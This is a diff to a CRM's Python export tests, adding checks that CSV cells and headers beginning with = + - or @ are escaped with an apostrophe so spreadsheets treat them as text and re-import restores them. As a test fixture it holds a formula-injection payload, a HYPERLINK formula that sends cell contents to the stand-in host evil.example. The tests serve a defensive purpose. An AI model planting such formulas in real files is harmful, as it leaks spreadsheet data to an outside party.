@@ -2,8 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import io
-from datetime import datetime, timedelta
+from datetime import UTC, datetime, timedelta
 
 import openpyxl
 from sqlalchemy import select
@@ -11,8 +12,10 @@ from sqlalchemy import select
 from bot.app import App
 from crm.client_queries import ClientFilter
 from crm.clock import ManualClock
-from crm.exports.files import Format
+from crm.exports.files import Column, Format, Kind, TableFile
+from crm.imports.mapping import propose
 from crm.imports.reading import read_table
+from crm.imports.rows import RowDraft, build_row
 from crm.service import Crm
 from storage.models import ExportLog, User
 from tests.client_helpers import make_client
@@ -95,3 +98,27 @@ async def test_deals_and_tasks_money_and_dates(app: App, join: Joiner, clock: Ma
     assert text[0].split(";")[:3] == ["ID", "Task", "Due"]
     assert text[1].split(";")[1:3] == ["Позвонить", "03.03.2026 12:00"]
     assert text[1].split(";")[6] == "Поставка"
+
+
+async def test_csv_cells_a_spreadsheet_would_run_go_out_as_text(app: App) -> None:
+    """Excel runs a CSV cell starting with = + - @ as a formula: such text goes out after a ',
+    which Excel shows as text and the import reads back as it was."""
+    name = '=HYPERLINK("http://evil.example/?"&A1;"Открыть")'
+    await make_client(app, OWNER_ID, name, phones=("+79161234567",), company="@SUM(1+1)")
+    async with app.crm.open() as crm:
+        file = await crm.exports.clients(await actor(crm), ClientFilter(), Format.CSV)
+    rows = list(csv.reader(io.StringIO(file.data.decode("utf-8-sig")), delimiter=";"))
+    assert [cell for cell in rows[1] if cell[:1] in ("=", "+", "-", "@")] == []
+    assert rows[1][1:5] == ["'" + name, "'+79161234567", "", "'@SUM(1+1)"]
+    table = read_table(file.data, "clients.csv")
+    draft = build_row(2, table.rows[0], propose(table.headers), "RU")
+    assert isinstance(draft, RowDraft)
+    assert (draft.name, draft.phones, draft.company) == (name, ["+79161234567"], "@SUM(1+1)")
+
+
+def test_a_csv_header_a_spreadsheet_would_run_goes_out_as_text() -> None:
+    """A column's title is a team's own field name, as free as any cell."""
+    file = TableFile([Column("a", "=1+1"), Column("b", "-Скидка", Kind.NUMBER)], Format.CSV, UTC)
+    file.write([["\tтекст", -5]])
+    lines = file.finish().decode("utf-8-sig").splitlines()
+    assert lines == ["'=1+1;'-Скидка", "'\tтекст;-5"]
